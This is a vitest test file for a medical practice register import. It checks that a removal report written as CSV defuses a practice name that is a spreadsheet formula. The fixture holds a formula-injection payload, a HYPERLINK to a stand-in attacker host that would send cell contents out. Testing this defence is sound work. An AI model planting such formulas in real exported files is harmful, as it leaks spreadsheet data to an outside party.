// The removal report of the register import (docs/register.md "The report"), with a practice whose
// name in the register file is a spreadsheet formula (issue #26 finding 4.6): the report lists its booked
// appointment with the name defused, so opening the report in a spreadsheet runs nothing.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedReferenceData } from '../../src/reference/index.ts';
import { importRegister, keptCsv } from '../../src/register/index.ts';
import {
  API,
  auth,
  bookingBody,
  DAY,
  insertCode,
  insertSlot,
  seedReference,
} from '../fixtures/booking.ts';
import { csvFile, HEADER, row } from '../fixtures/register.ts';
import { startTestApp, type TestContext } from '../helper.ts';

let ctx: TestContext;
const STAYING = ['729903000', '729903001', '729903002', '729903003', '729903004'];
const LEAVING = '729903009';
const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1;"Praxis Dr. Klick")';

beforeAll(async () => {
  ctx = await startTestApp({
    loadShedding: { maxInFlight: 100_000, maxEventLoopDelayMs: 0, retryAfterSeconds: 5 },
  });
  await seedReferenceData(ctx.db);
  await seedReference(ctx.db);
}, 180_000);
afterAll(() => ctx.close());

describe('the removal report', () => {
  it('defuses a practice name that a spreadsheet would run as a formula', async () => {
    const named = `"${FORMULA.replaceAll('"', '""')}"`;
    const first = await importRegister(
      ctx.db,
      csvFile([HEADER, ...STAYING.map((b) => row(b)), row(LEAVING, named)]),
    );
    expect(first.importiert).toBe(6);
    const practice = { praxisId: `B${LEAVING}`, profilId: `profil-${LEAVING}` };
    await ctx.db.query(
      `INSERT INTO terminprofile (id, praxis_id, name, leistungsmerkmale)
       VALUES ($1, $2, 'Sprechstunde', '{W030}')`,
      [practice.profilId, practice.praxisId],
    );
    const slot = await insertSlot(ctx.db, practice, { inMs: 3 * DAY });
    const booked = await ctx.app.inject({
      method: 'POST',
      url: `${API}/buchung`,
      headers: { ...auth(await insertCode(ctx.db)), 'content-type': 'application/json' },
      payload: JSON.stringify(bookingBody(slot)),
    });
    expect(booked.statusCode).toBe(204);

    const removal = await importRegister(ctx.db, csvFile([HEADER, ...STAYING.map((b) => row(b))]), {
      vollstaendig: true,
      force: true,
    });
    expect(removal.entfernt).toBe(1);
    expect(removal.behalten.map((k) => k.praxis)).toEqual([FORMULA]);

    const [, line] = keptCsv(removal.behalten);
    expect(line!.startsWith(`${LEAVING};`)).toBe(true);
    // The name is one quoted cell, starting with the single quote: text, not a formula.
    expect(line).toContain(`;"'=HYPERLINK(""https://evil.example/?x=""&A1;""Praxis Dr. Klick"")";`);
  });
});
